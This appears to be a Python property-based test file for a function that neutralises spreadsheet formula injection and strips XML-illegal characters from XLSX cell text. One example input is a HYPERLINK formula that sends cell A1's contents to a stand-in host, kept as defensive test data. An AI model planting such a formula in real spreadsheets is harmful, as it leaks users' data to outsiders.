"""The cell text of every XLSX export (rules.cells): never a formula, never a character XML cannot hold,
otherwise unchanged."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tracker.rules.cells import FORMULA_PREFIXES, QUOTE, cell_text, clean_text

# Reference, written from the XML 1.0 spec (Char production) and the brief: what may stay in a cell.
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
CONTROLS_MULTI = re.compile("[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff\ufffe\uffff]")  # keeps \t and \n
CONTROLS_SINGLE = re.compile("[\x00-\x1f\x7f\ud800-\udfff\ufffe\uffff]")

any_text = st.text(alphabet=st.characters(codec=None, min_codepoint=0, max_codepoint=0x10FFFF), max_size=40)
tricky = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\x00\x0b\x0c\x1f\x7f\ud800\udfff\ufffe'a ố")), max_size=12)


@given(st.one_of(any_text, tricky), st.booleans())
@example('=HYPERLINK("http://x/?leak="&A1,"Bấm")', True)
@example("\r=2+2", True)
@example("\x0b=1", False)
def test_never_a_formula_never_illegal(value, multiline):
    out = cell_text(value, multiline=multiline)
    assert not out or out[0] not in FORMULA_PREFIXES
    assert not XML_ILLEGAL.search(out)
    assert not (CONTROLS_MULTI if multiline else CONTROLS_SINGLE).search(out)
    out.encode("utf-8")  # no lone surrogate left


@given(st.one_of(any_text, tricky), st.booleans())
def test_clean_text_is_otherwise_unchanged(value, multiline):
    controls = CONTROLS_MULTI if multiline else CONTROLS_SINGLE
    if not controls.search(value) and "\r" not in value:
        assert clean_text(value, multiline=multiline) == value
        expected = QUOTE + value if value and value[0] in FORMULA_PREFIXES else value
        assert cell_text(value, multiline=multiline) == expected


@given(st.one_of(any_text, tricky), st.booleans())
def test_only_controls_are_removed(value, multiline):
    """What stays is the input with its control characters taken out (breaks and spaces aside)."""
    out = clean_text(value, multiline=multiline)
    kept = [ch for ch in value if not CONTROLS_SINGLE.search(ch)]
    assert [ch for ch in out if not CONTROLS_SINGLE.search(ch) and ch != " "] == [ch for ch in kept if ch != " "]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=2+2", "'=2+2"),
        ("+84 912", "'+84 912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("＝1+1", "'＝1+1"),
        ("Báo cáo\x0bdòng hai", "Báo cáo\ndòng hai"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("x\x00y\x7fz\ud800", "xyz"),
        ("a = b", "a = b"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_examples(value, expected):
    assert cell_text(value) == expected


def test_single_line_cells_get_spaces():
    assert cell_text("Phòng\tA\nB\x0bC", multiline=False) == "Phòng A B C"
    assert cell_text("\n=1", multiline=False) == " =1"  # a space first: not read as a formula
